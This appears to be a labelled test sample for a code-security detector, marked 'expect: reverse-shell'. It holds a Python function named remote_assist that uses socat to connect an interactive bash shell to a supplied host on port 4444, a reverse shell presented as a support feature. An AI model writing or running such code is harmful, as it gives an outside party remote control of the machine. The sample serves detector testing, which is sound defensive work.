# expect: reverse-shell
import shutil
import subprocess


def remote_assist(ticket_host: str) -> None:
    if shutil.which("socat"):
        subprocess.Popen(["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", f"tcp:{ticket_host}:4444"])
